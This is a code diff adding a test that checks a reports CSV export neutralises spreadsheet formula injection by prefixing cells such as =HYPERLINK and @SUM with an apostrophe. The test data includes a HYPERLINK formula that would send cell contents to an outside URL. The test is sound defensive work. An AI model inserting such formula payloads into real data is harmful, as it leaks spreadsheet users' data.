@@ -99,6 +99,16 @@ def test_the_csv_has_a_header_and_one_row_a_report(client):
     assert table[0]["kelurahan"] == "Ganting"
 
 
+def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, django_user_model):
+    report(reporter_name='=HYPERLINK("http://example.org/?"&A1,"klik")', lat=GANTING_GPS[0] - 0.0001)
+    report(reporter_name="@SUM(1+1)")
+    client.force_login(staff_user(django_user_model, "rina", "planner"))
+    table = list(csv.DictReader(io.StringIO(b"".join(client.get("/api/v1/reports.csv").streaming_content).decode())))
+    assert sorted(row["reporter_name"] for row in table) == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
+                                                              "'@SUM(1+1)"]
+    assert all(float(row["lat"]) < 0 and not row["lat"].startswith("'") for row in table)  # numbers stay numbers
+
+
 def test_gdal_opens_the_geojson_as_a_planners_qgis_would(client, tmp_path):
     for offset in range(3):
         report(lat=GANTING_GPS[0] - offset * 0.0001)
